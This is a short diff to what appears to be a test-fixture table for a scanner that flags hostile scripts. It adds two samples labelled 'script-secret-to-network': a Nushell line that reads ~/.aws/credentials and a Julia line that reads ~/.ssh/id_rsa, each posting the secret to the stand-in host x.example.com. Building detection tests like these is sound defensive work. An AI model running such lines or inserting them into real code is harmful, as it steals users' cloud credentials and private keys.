@@ -115,6 +115,18 @@ TRACES: dict[str, tuple[str, str, str]] = {
 
 # What stands for @@ is "Aa" before and "aA" after; LONG stands for many letters.
 FURTHER: dict[str, tuple[str, dict[str, str]]] = {
+    "behind an address without quotes": (
+        "script-secret-to-network",
+        {
+            "a.nu": "let key = (open ~/.aws/credentials --raw)\nhttp post https://x.example.com/k $key --max-time @@\n"
+        },
+    ),
+    "behind a whole division": (
+        "script-secret-to-network",
+        {
+            "a.jl": 'key = read(joinpath(homedir(), ".ssh", "id_rsa"), String)\nn = 1 // 2; HTTP.post("https://x.example.com/@@", [], key)\n'
+        },
+    ),
     "a module": (
         "python-network-to-exec",
         {
